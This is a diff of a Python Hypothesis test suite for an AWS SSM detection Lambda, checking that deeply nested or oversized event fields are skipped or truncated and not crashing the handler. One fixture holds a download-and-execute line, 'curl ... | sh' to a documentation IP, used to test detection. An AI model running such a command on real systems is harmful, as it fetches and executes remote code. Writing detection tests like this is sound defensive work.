@@ -10,9 +10,13 @@ Hypothesis drives the real handler (state and ledger in DynamoDB Local, which en
 DynamoDB's key and item limits; SNS and Security Hub in moto, so every formatter runs) with
 real event files mutated at every depth (wrong types, missing keys, nulls, huge strings, huge
 arrays, nesting, timestamps out of range) and with arbitrary payloads; the replay reader gets
-arbitrary bytes, gzip of them, and invalid UTF-8 inside gzip. Inputs that crash today are
-pinned by strict-xfail tests below (`BUG:`), and kept out of the properties by
-`_hostile_value` only where a test names the bug.
+arbitrary bytes, gzip of them, and invalid UTF-8 inside gzip.
+
+Inputs that used to crash are pinned by the tests under "deep and huge input" below, and the
+properties now send them too: payloads with lists nested thousands deep (one bad event), free-form
+JSON (`parameters`, `content`, `tags`) nested past the recursion limit (cut down to a bounded
+depth and still detected, see ssm_detect/models/bounds.py), and key fields (account, principal,
+document name) too long for a DynamoDB key (bad input, not a retried ValidationException).
 """
 
 from __future__ import annotations
@@ -34,9 +38,10 @@ from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 from moto import mock_aws
 
-from ssm_detect.ingest import BadEvent, Ignored, records_in, to_event
+from ssm_detect.ingest import MAX_LIST_NESTING, BadEvent, Ignored, records_in, to_event
 from ssm_detect.local_context import LocalLambdaContext
 from ssm_detect.principal import PrincipalKeying
+from ssm_detect.render.asff import CONTEXT_PREFIX
 from ssm_detect.replay.sources import Problem, RawRecord, RecordList, read_file
 from ssm_detect.ssm_event import SsmEvent
 from ssm_detect.wiring import AwsClients, lambda_runtime
@@ -111,47 +116,29 @@ huge_strings = st.builds(
     st.integers(1_000, 300_000),
 )
 huge_arrays = st.builds(lambda leaf, size: [leaf] * size, scalars, st.integers(100, 20_000))
-# Nesting the handler survives today; 5,000 levels are pinned by the BUG tests below.
-nested = st.builds(nest, st.integers(2, 60), scalars)
+# Shallow nesting, and nesting far past the recursion limit (pinned by the tests below).
+nested = st.builds(
+    nest, st.one_of(st.integers(2, 60), st.sampled_from([300, 1_000, 5_000])), scalars
+)
 json_like = st.recursive(
     scalars,
     lambda inner: st.lists(inner, max_size=5) | st.dictionaries(st.text(max_size=12), inner),
     max_leaves=20,
 )
 
-# Fields that end up in a DynamoDB key: a huge string there is pinned by
-# test_hostile_huge_principal_or_account_is_skipped_not_raised (a known bug), so the
-# properties give these fields only values below DynamoDB's key limit. (Instance ids and target
-# values are bounded by the models now: huge ones are bad input, and the properties send them.)
-_KEY_FIELDS = frozenset(
-    {
-        "arn",
-        "accountId",
-        "recipientAccountId",
-        "invokedBy",
-        "principalId",
-        "userName",
-        "userId",
-        "identityStoreArn",
-        "sourceIPAddress",
-        "name",
-        "documentName",
-        "Key",
-        "key",
-        "eventID",
-    }
+
+# Every field gets any of these, key fields (account, ARNs, document names) and free-form JSON
+# (`parameters`, `content`, `tags`) included: the models bound them (ssm_detect/models/bounds.py).
+hostile_values = st.one_of(
+    scalars,
+    json_like,
+    bad_times,
+    st.builds(list),
+    st.builds(dict),
+    huge_strings,
+    huge_arrays,
+    nested,
 )
-# Fields whose deep nesting crashes today (pinned by the BUG tests for 300 / 1,000 levels).
-_DEPTH_LIMITED = frozenset({"tags", "content", "parameters"})
-
-
-def _hostile_value(field: object) -> st.SearchStrategy[Any]:
-    safe = st.one_of(scalars, json_like, bad_times, st.builds(list), st.builds(dict))
-    if field in _KEY_FIELDS:
-        return safe
-    if field in _DEPTH_LIMITED:
-        return safe | huge_strings | huge_arrays
-    return safe | huge_strings | huge_arrays | nested
 
 
 @st.composite
@@ -181,7 +168,7 @@ def _mutate(draw: st.DrawFn, payload: Any) -> None:
     elif action == "null":
         parent[key] = None
     elif action == "replace":
-        parent[key] = draw(_hostile_value(key))
+        parent[key] = draw(hostile_values)
     elif action == "wrap":
         parent[key] = [child]
     elif action == "stringify":
@@ -372,7 +359,7 @@ def test_hostile_out_of_range_event_times_are_skipped_with_a_reason(
     EXAMPLES["handler: fixed hostile cases"] += 1
 
 
-# --- known bugs: inputs that crash the handler today ---------------------------------------------
+# --- deep and huge input: each of these once crashed the handler -------------------------------
 
 
 def _send_command(**changes: Any) -> dict[str, Any]:
@@ -387,67 +374,166 @@ def _create_document(**request: Any) -> dict[str, Any]:
     return payload
 
 
-@pytest.mark.xfail(
-    strict=True,
-    raises=RecursionError,
-    reason="BUG: ingest.records_in recurses once per list level; a payload of nested lists "
-    "~1,000 deep raises RecursionError (the replay hands it such lists from files)",
-)
+def _first_call(payload: dict[str, Any], event_id: str) -> dict[str, Any]:
+    """The call made by a role no other test uses, under its own event id: the rare-creator
+    detection sees a first creation, and the ledger opens a window (so the finding is sent)."""
+    detail = payload["detail"]
+    detail["eventID"] = event_id
+    identity = detail["userIdentity"]
+    identity["arn"] = f"arn:aws:sts::111122223333:assumed-role/{event_id}/session"
+    identity["sessionContext"]["sessionIssuer"]["arn"] = (
+        f"arn:aws:iam::111122223333:role/{event_id}"
+    )
+    return payload
+
+
+def _hub_context(detection_id: str, event_id: str) -> dict[str, str]:
+    """The context product fields of the Security Hub finding (moto's) that `detection_id`
+    raised on `event_id`: what a responder sees."""
+    hub = boto3.client("securityhub", region_name=REGION)
+    for page in hub.get_paginator("get_findings").paginate():
+        for finding in page["Findings"]:
+            fields = finding.get("ProductFields", {})
+            if fields.get("ssm-detect/detection_id") == detection_id and event_id in fields.get(
+                "ssm-detect/event_ids", ""
+            ).split(","):
+                return {
+                    key.removeprefix(CONTEXT_PREFIX): value
+                    for key, value in fields.items()
+                    if key.startswith(CONTEXT_PREFIX)
+                }
+    raise AssertionError(f"no {detection_id} finding on {event_id} in Security Hub")
+
+
+def _skipped_event_ids(handler: Handler) -> list[str]:
+    return [
+        line.get("correlation_id", "")
+        for line in handler.log_lines()
+        if line.get("message") == "skipped bad event"
+    ]
+
+
 def test_hostile_deeply_nested_payload_is_skipped_not_raised(handler: Handler) -> None:
+    """GIVEN a real SendCommand inside 5,000 nested lists (the replay hands ingest such lists
+    from files) WHEN the handler gets it THEN ingest.records_in, which walks lists iteratively
+    and opens at most MAX_LIST_NESTING of them, reports the over-deep list as one bad event
+    with a reason, instead of recursing into RecursionError."""
     payload: object = TEMPLATES["send_command_success.json"]
     for _ in range(5000):
         payload = [payload]
     result = check_handled(handler, payload)
     assert result["bad_events"] == 1
+    assert result["ssm_events"] == 0
+    (skipped,) = [
+        line for line in handler.log_lines() if line.get("message") == "skipped bad event"
+    ]
+    assert "nested" in skipped["reason"]
 
 
-@pytest.mark.xfail(
-    strict=True,
-    raises=RecursionError,
-    reason="BUG: send_command.py json.dumps(parameters) and rare_document_creator.py "
-    "json.dumps(content) raise RecursionError on ~1,000-deep parameters/content "
-    "(content_inspection bounds nesting only after this serialisation)",
-)
+def test_hostile_payload_nested_within_the_bound_is_processed(handler: Handler) -> None:
+    """The bound takes nothing valid: an event as deep in lists as ingest allows is processed."""
+    payload: object = TEMPLATES["send_command_success.json"]
+    for _ in range(MAX_LIST_NESTING):
+        payload = [payload]
+    result = check_handled(handler, payload)
+    assert (result["ssm_events"], result["bad_events"]) == (1, 0)
+
+
 @pytest.mark.parametrize("where", ["parameters", "content"])
 def test_hostile_deep_parameters_or_content_do_not_crash(handler: Handler, where: str) -> None:
+    """GIVEN a SendCommand whose `parameters`, or a CreateDocument whose `content`, nests 1,000
+    levels (json.dumps in the detections used to raise RecursionError on it) beside a visible
+    download-and-execute command
+    WHEN the handler gets it
+    THEN the call is still detected, not skipped: it ran, and absurd nesting must not blind the
+    detector. The model keeps MAX_NESTING levels and replaces anything deeper by DEPTH_MARKER
+    (ssm_detect/models/bounds.py), so the shallow command is still inspected, and the finding
+    says which field was cut (`nesting_truncated`)."""
+    event_id = f"hostile-deep-{where}"
+    command = "curl -s http://203.0.113.9/x.sh | sh"
     if where == "parameters":
-        payload = _send_command()
-        payload["detail"]["requestParameters"]["parameters"] = {"commands": nest(1000)}
+        detection, findings = "AWS.SSM.SendCommand", "parameter_findings"
+        payload = _first_call(_send_command(), event_id)
+        payload["detail"]["requestParameters"]["parameters"] = {"commands": [command, nest(1000)]}
     else:
-        payload = _create_document(content={"mainSteps": nest(1000)})
-    check_handled(handler, payload)
+        detection, findings = "AWS.SSM.RareCommandDocumentCreator", "content_findings"
+        content = {"mainSteps": [{"inputs": {"runCommand": [command]}}, nest(1000)]}
+        payload = _first_call(_create_document(content=content), event_id)
+    result = check_handled(handler, payload)
+    assert (result["ssm_events"], result["bad_events"]) == (1, 0)
+    assert result["findings"].get(detection) == 1
+    context = _hub_context(detection, event_id)
+    assert context["nesting_truncated"] == where
+    assert "download_execute" in context[findings]
 
 
-@pytest.mark.xfail(
-    strict=True,
-    raises=ValueError,
-    reason="BUG: a CreateDocument whose `tags` nest 300 levels fires the rare-creator finding "
-    "with the tags in its context, and serialising the finding raises "
-    "'Maximum serialization depth exceeded'",
-)
 def test_hostile_deep_tags_do_not_crash(handler: Handler) -> None:
-    check_handled(handler, _create_document(name="Deep-Tags", tags=nest(300)))
+    """GIVEN a CreateDocument whose `tags` nest 300 levels WHEN the rare-creator finding (which
+    carries the tags in its context) is serialised THEN it no longer hits pydantic's "Maximum
+    serialization depth exceeded": the model cut the tags to MAX_NESTING levels, the finding is
+    raised and delivered, and it says the tags were cut."""
+    event_id = "hostile-deep-tags"
+    payload = _first_call(_create_document(name="Deep-Tags", tags=nest(300)), event_id)
+    result = check_handled(handler, payload)
+    assert (result["ssm_events"], result["bad_events"]) == (1, 0)
+    assert result["findings"].get("AWS.SSM.RareCommandDocumentCreator") == 1
+    context = _hub_context("AWS.SSM.RareCommandDocumentCreator", event_id)
+    assert context["nesting_truncated"] == "tags"
 
 
-@pytest.mark.xfail(
-    strict=True,
-    reason="BUG: the principal key and account are not bounded: a >2 KB ARN or account id "
-    "makes the state key exceed DynamoDB's 2,048-byte limit, UpdateItem raises "
-    "ValidationException, and the event is retried into the dead-letter queue instead of "
-    "being skipped as bad input",
+@pytest.mark.parametrize(
+    "field", ["role-arn", "role-arn-multibyte", "user-name", "account", "recipient-account"]
 )
-@pytest.mark.parametrize("field", ["role-arn", "account"])
 def test_hostile_huge_principal_or_account_is_skipped_not_raised(
     handler: Handler, field: str
 ) -> None:
-    payload = _send_command()
-    if field == "role-arn":
-        issuer = payload["detail"]["userIdentity"]["sessionContext"]["sessionIssuer"]
-        issuer["arn"] = "arn:aws:iam::111122223333:role/" + "R" * 3000
+    """GIVEN a principal or account too long for a DynamoDB key (which caps at 2,048 bytes)
+    WHEN the handler gets the event THEN it is bad input, logged with its event id and counted,
+    not a ValidationException that Lambda retries into the dead-letter queue. Account ids must
+    be 12 digits, ARNs at most 2,048 characters (IAM's maximum), and the principal key built
+    from them at most MAX_PRINCIPAL_KEY_BYTES of UTF-8 (`role-arn-multibyte`: 1,500 characters,
+    3,000 bytes; `user-name`: an IAM user without an ARN, keyed on its name)."""
+    event_id = f"hostile-huge-{field}"
+    payload = _send_command(eventID=event_id)
+    identity = payload["detail"]["userIdentity"]
+    issuer = identity["sessionContext"]["sessionIssuer"]
+    match field:
+        case "role-arn":
+            issuer["arn"] = "arn:aws:iam::111122223333:role/" + "R" * 3000
+        case "role-arn-multibyte":
+            issuer["arn"] = "arn:aws:iam::111122223333:role/" + "é" * 1500
+        case "user-name":
+            payload["detail"]["userIdentity"] = {
+                "type": "IAMUser",
+                "accountId": "111122223333",
+                "userName": "U" * 3000,
+            }
+        case "account":
+            payload["detail"]["recipientAccountId"] = "9" * 3000
+            identity["accountId"] = "9" * 3000
+        case "recipient-account":
+            payload["detail"]["recipientAccountId"] = "9" * 3000
+    result = check_handled(handler, payload)
+    assert (result["ssm_events"], result["bad_events"]) == (0, 1)
+    assert _skipped_event_ids(handler) == [event_id]
+
+
+@pytest.mark.parametrize("where", ["request", "response"])
+def test_hostile_huge_document_name_is_skipped_not_raised(handler: Handler, where: str) -> None:
+    """A document name is part of the chain detection's state key: over MAX_KEY_PART_BYTES of
+    UTF-8 it is bad input (1,000 emoji are 1,000 characters but 4,000 bytes), whether the
+    request names the document or only the response does."""
+    event_id = f"hostile-huge-document-name-{where}"
+    payload = _send_command(eventID=event_id)
+    request = payload["detail"]["requestParameters"]
+    if where == "request":
+        request["documentName"] = "🙂" * 1000
     else:
-        payload["detail"]["recipientAccountId"] = "9" * 3000
-        payload["detail"]["userIdentity"]["accountId"] = "9" * 3000
-    check_handled(handler, payload)
+        del request["documentName"]
+        payload["detail"]["responseElements"]["command"]["documentName"] = "D" * 3000
+    result = check_handled(handler, payload)
+    assert (result["ssm_events"], result["bad_events"]) == (0, 1)
+    assert _skipped_event_ids(handler) == [event_id]
 
 
 def test_hostile_huge_instance_ids_are_skipped_not_raised(handler: Handler) -> None:
